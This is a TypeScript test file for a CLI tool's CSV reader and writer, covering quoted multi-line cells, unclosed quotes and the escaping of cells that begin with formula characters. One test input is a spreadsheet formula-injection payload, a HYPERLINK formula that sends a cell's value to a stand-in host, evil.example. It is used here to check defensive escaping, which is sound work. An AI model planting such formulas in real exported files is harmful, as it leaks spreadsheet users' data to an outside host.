import { describe, expect, it } from "vitest";
import { csvLine, csvRecords, parseCsvLine, quotesClosed, RECORD_LINES_MAX } from "../../src/cli/csv.js";

async function recordsOf(lines: readonly string[]): Promise<string[]> {
  async function* from() {
    yield* lines;
  }
  const out: string[] = [];
  for await (const record of csvRecords(from())) out.push(record);
  return out;
}

describe("CSV records", () => {
  it.each([
    ["one line each", ["a,b", "c,d"], ["a,b", "c,d"]],
    ["a quoted cell over a line break", ['a,"b', 'c",d', "e,f"], ['a,"b\nc",d', "e,f"]],
    ["a doubled quote at a line's end, inside a cell", ['a,"b""', 'c"', "e"], ['a,"b""\nc"', "e"]],
    ["a quote inside an unquoted cell, a character", ['a,b"c', "d"], ['a,b"c', "d"]],
    // The file ends inside a quoted cell: that line alone is a record (refused), the rest read again.
    ["a quote left open at the end of the file", ["a,b", 'x,"manu,', "c,d", "e,f"], ["a,b", 'x,"manu,', "c,d", "e,f"]],
    // The next quote closes it where no cell ends: that quote opened a cell of its own row.
    ["a quote left open before a row with a quoted cell", ['x,"manu,', 'a,"Seoul, basic"', "c,d"], ['x,"manu,', 'a,"Seoul, basic"', "c,d"]],
    ["a quote left open, a plain row, then a quoted cell", ['x,"BOK', "a,b", 'c,"BOK noon"', "e,f"], ['x,"BOK', "a,b", 'c,"BOK noon"', "e,f"]],
    ["a cell over a line break, closed where its cell ends", ['a,"Seoul,', 'basic",b', "c"], ['a,"Seoul,\nbasic",b', "c"]],
  ])("%s", async (_, lines, records) => {
    expect(await recordsOf(lines)).toEqual(records);
  });

  it("does not let a quote left open swallow the rows after it", async () => {
    const good = Array.from({ length: 5_000 }, (_, i) => `row ${i},1`);
    const records = await recordsOf(["head,x", 'bad,"manu,', ...good]);
    expect(records).toEqual(["head,x", 'bad,"manu,', ...good]);
    expect(quotesClosed(records[1]!)).toBe(false);
  });

  it(`joins a cell over at most ${RECORD_LINES_MAX} lines`, async () => {
    const inside = Array.from({ length: RECORD_LINES_MAX - 2 }, (_, i) => `line ${i}`);
    expect(await recordsOf(['a,"start', ...inside, 'end"', "z"])).toEqual([['a,"start', ...inside, 'end"'].join("\n"), "z"]);
    const beyond = [...inside, "one more"];
    expect(await recordsOf(['a,"start', ...beyond, 'end"', "z"])).toEqual(['a,"start', ...beyond, 'end"', "z"]);
  });

  it.each([
    ["=1+2", "'=1+2"],
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"'],
    ["+1", "'+1"],
    ["-1", "'-1"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["\tx", "'\tx"],
    ["a=1", "a=1"],
    ["30000000.00", "30000000.00"],
  ])("writes %j so that a spreadsheet shows it as text", (cell, written) => {
    expect(csvLine([cell])).toBe(written);
  });

  it("writes what it reads", () => {
    const fields = ["plain", "a, b", 'say "x"', "two\nlines", ""];
    expect(parseCsvLine(csvLine(fields))).toEqual(fields);
  });
});
